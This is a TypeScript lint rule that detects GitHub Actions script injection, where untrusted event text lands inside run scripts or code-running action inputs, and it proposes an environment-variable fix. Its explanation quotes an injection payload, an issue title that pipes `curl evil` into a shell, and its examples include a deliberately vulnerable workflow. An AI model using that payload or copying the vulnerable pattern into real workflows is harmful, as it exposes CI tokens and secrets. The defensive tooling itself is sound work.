import { type Step, steps } from '../../graph/github-actions.ts';
import { isOpenToOutsiders, type UntrustedText, untrustedIn } from '../../graph/github-actions-trust.ts';
import type { Edit, Fix } from '../../model/edit.ts';
import { Node } from '../../model/node.ts';
import { check, type Fault } from '../check.ts';

/** Inputs of actions that are run as code. Source: GitHub CodeQL's models of code injection sinks. */
const codeInputs: Readonly<Record<string, readonly string[]>> = {
  'actions/github-script': ['script'],
  'amadevus/pwsh-script': ['script'],
  'jannekem/run-python-script-action': ['script'],
  'cardinalby/js-eval-action': ['expression'],
  'addnab/docker-run-action': ['options', 'run'],
  'appleboy/ssh-action': ['script'],
  'azure/cli': ['inlinescript'],
  'azure/powershell': ['inlinescript'],
  'nick-fields/retry': ['command'],
  'mikefarah/yq': ['cmd'],
};

export default check({
  id: 'github-actions/script-injection',
  title: 'Text of others becomes part of a script',
  dimension: 'security',
  severity: 'high',
  why: 'GitHub pastes the value of ${{ … }} into the script before the shell reads it: an issue titled `"; curl evil | sh; "` runs as code, with the token and the secrets of the job. Hand the value over in an environment variable, which the shell takes as text: env: { TITLE: ${{ … }} }, then "$TITLE".',
  sameAs: [
    'actionlint:expression/untrusted-input',
    'checkov:CKV_GHA_2',
    'kics:cicd/github/run_block_injection',
    'kics:cicd/github/script_block_injection',
    'scorecard:dangerous-workflow/script-injection',
    'zizmor:template-injection',
  ],
  controls: ['soc2:CC8.1', 'pci-dss:6.2.4', 'slsa:build-l3'],
  sources: ['https://docs.github.com/en/actions/concepts/security/script-injections'],
  visits: steps,
  judge(step) {
    const faults: Fault[] = [];
    for (const { node, what } of scriptsOf(step)) {
      const text = node.file.text.slice(node.start, node.end);
      for (const [path, places] of byPath(untrustedIn(text, step))) {
        const first = places[0]!;
        const fix = node === step.script ? fixOf(step, text, places) : undefined;
        faults.push({
          message: `${sentence(first, what)}: hand it over in an environment variable and use that in quotes.`,
          at: new Node(
            node.file,
            node.start + first.start,
            node.start + first.end,
            text.slice(first.start, first.end),
          ),
          key: `${step.key} ${path}`,
          severity: first.author !== 'outsider' ? 'low' : isExposed(step) ? 'high' : 'medium',
          ...(fix && { fix }),
        });
      }
    }
    return faults;
  },
  examples: {
    bad: `on:
  issues:
    types: [opened]
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    steps:
      - run: echo "New issue \${{ github.event.issue.title }}"
`,
    good: `on:
  issues:
    types: [opened]
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    steps:
      - run: echo "New issue $TITLE, number \${{ github.event.issue.number }}"
        env:
          TITLE: \${{ github.event.issue.title }}
`,
  },
});

function scriptsOf({ script, action, node }: Step): { node: Node; what: string }[] {
  if (script) return [{ node: script, what: 'the script' }];
  const inputs = action && Object.hasOwn(codeInputs, action.repository) ? codeInputs[action.repository]! : [];
  return inputs.flatMap((name) => {
    const input = node.peek('with', name);
    return input ? [{ node: input, what: `the ${name} of ${action!.repository}` }] : [];
  });
}

function sentence({ written, author }: UntrustedText, what: string): string {
  if (author === 'outsider') return `Anybody can choose ${written}, which becomes part of ${what}`;
  if (author === 'insider')
    return `Whoever may push or start this workflow chooses ${written}, which becomes part of ${what}`;
  return `Whoever calls this chooses ${written}, which becomes part of ${what}`;
}

/** In a composite action nobody knows what will call it. */
function isExposed({ job }: Step): boolean {
  return !job || isOpenToOutsiders(job.workflow) || job.workflow.triggers.has('workflow_call');
}

/** A fix of more places is nothing that a person would look through. */
const mostPlaces = 50;

function byPath(found: readonly UntrustedText[]): ReadonlyMap<string, UntrustedText[]> {
  const groups = new Map<string, UntrustedText[]>();
  for (const one of found) {
    const group = groups.get(one.path);
    if (group) group.push(one);
    else groups.set(one.path, [one]);
  }
  return groups;
}

/** An environment variable in its place, where a POSIX shell reads the script and the place is outside of single quotes. */
function fixOf(step: Step, text: string, places: readonly UntrustedText[]): Fix | undefined {
  const script = step.script!;
  const shell = step.node.peek('shell')?.content;
  if (shell !== undefined && shell !== 'bash' && shell !== 'sh') return undefined;
  const { path, start, end } = places[0]!;
  // in a string of double quotes, quotes would need escapes; what is an environment variable already has its own name
  if (places.length > mostPlaces || text.startsWith('"') || path.startsWith('env.')) return undefined;
  const name = path
    .replace(/^github\.event\./, '')
    .replace(/[^a-z0-9]+/gi, '_')
    .toUpperCase();
  if (step.node.peek('env', name)) return undefined;
  const edits: Edit[] = [
    { op: 'set', in: step.node, path: ['env', name], value: text.slice(start, end), after: 'run' },
  ];
  for (const place of places) {
    const line = text.slice(text.lastIndexOf('\n', place.start) + 1, place.start);
    const count = (quote: string) => line.split(quote).length - 1;
    if (count("'") % 2 === 1 || text.slice(place.start, place.end) !== text.slice(start, end))
      return undefined;
    const use = count('"') % 2 === 1 ? `\${${name}}` : `"\${${name}}"`;
    edits.push({
      op: 'text',
      file: script.file,
      start: script.start + place.start,
      end: script.start + place.end,
      text: use,
    });
  }
  return { safety: 'unsafe', summary: `hand ${path} over as $${name} (look at the quotes around it)`, edits };
}
